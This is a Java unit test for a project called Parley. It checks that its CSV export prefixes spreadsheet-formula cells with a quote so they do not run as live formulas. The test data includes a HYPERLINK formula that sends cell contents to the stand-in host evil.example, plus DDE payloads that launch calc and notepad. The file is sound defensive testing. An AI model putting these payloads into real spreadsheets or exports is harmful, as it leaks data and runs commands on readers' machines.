package org.parley.store.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.parley.model.Analysis;
import org.parley.model.Article;
import org.parley.model.Mention;
import org.parley.model.Quote;
import org.parley.model.QuoteKind;
import org.parley.model.Span;
import org.parley.store.ParleyStore;
import org.parley.store.StoreReader;

/** A page whose title, author and quote are spreadsheet formulas must not export as live formulas to CSV. */
class CsvFormulaInjectionTest {
  static final String TITLE = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Read more\")";
  static final String AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0";
  static final String QUOTE = "=cmd|' /C calc'!A0";
  static final String STANDFIRST = "-2+3+cmd|' /C notepad'!'A1'";

  @TempDir
  Path dir;

  @Test
  void formulaCellsGetALeadingQuoteInCsvOnly() throws Exception {
    String para = QUOTE + " is what the minister typed, said the report.";
    Article a = new Article("evil-1", "pages/evil.html", "https://evil.example/a", "+evil", TITLE, STANDFIRST, null,
        List.of(AUTHOR, "\tTab Person"), "en", List.of(para), List.of());
    Quote q = new Quote(new Span(0, QUOTE.length()), QUOTE, QuoteKind.DIRECT, null, "said", null,
        new Span(0, para.length()));
    try (ParleyStore store = ParleyStore.openForWriting(dir)) {
      store.add(new Analysis(a, List.of(new Span(0, para.length())), List.<Mention>of(), List.of(q), List.of(),
          List.of()));
      store.commit();
    }
    try (ParleyStore store = ParleyStore.openReadOnly(dir); StoreReader r = store.reader()) {
      String articles = export(ExportFormat.CSV, r, "articles");
      assertTrue(articles.contains("\"'" + TITLE.replace("\"", "\"\"") + "\""), articles);
      assertTrue(articles.contains("'" + STANDFIRST), articles);
      assertTrue(articles.contains("'" + AUTHOR + " | \tTab Person"), articles);
      assertTrue(articles.contains(",'+evil,"), articles);
      String quotes = export(ExportFormat.CSV, r, "quotes");
      assertTrue(quotes.contains(",'" + QUOTE + ","), quotes);
      assertTrue(quotes.contains(",\"'" + QUOTE + " is what"), "the sentence starts with the formula too: " + quotes);
      for (String csv : List.of(articles, quotes)) {
        for (String line : csv.split("\r\n")) {
          assertFalse(line.matches("(?s)(.*,)?\"?[=+@\t].*") && !line.matches("(?s).*,\"?'[=+@\t-].*"),
              "no cell starts a formula: " + line);
        }
      }
      String jsonl = export(ExportFormat.JSONL, r, "quotes");
      assertTrue(jsonl.contains("\"quote\":\"" + QUOTE + "\""), "JSON lines stay verbatim: " + jsonl);
    }
  }

  @Test
  void numbersAndTheUnresolvedActorCodeStayAsTheyAre() {
    assertEquals("-7.2", SpreadsheetSafe.cell("-7.2"));
    assertEquals("+1e5", SpreadsheetSafe.cell("+1e5"));
    assertEquals("---", SpreadsheetSafe.cell("---"));
    assertEquals("'-1+cmd|x", SpreadsheetSafe.cell("-1+cmd|x"));
    assertEquals("'\r=1", SpreadsheetSafe.cell("\r=1"));
    assertEquals("Estonia", SpreadsheetSafe.cell("Estonia"));
    assertEquals("", SpreadsheetSafe.cell(""));
  }

  private static String export(ExportFormat f, StoreReader r, String kind) throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Exporter x = Exporter.of(f);
    if (kind.equals("quotes")) {
      x.quotes(r, ExporterTest.ALL_QUOTES, out);
    } else {
      x.articles(r, ExporterTest.ALL_ARTICLES, out);
    }
    return out.toString(StandardCharsets.UTF_8);
  }
}
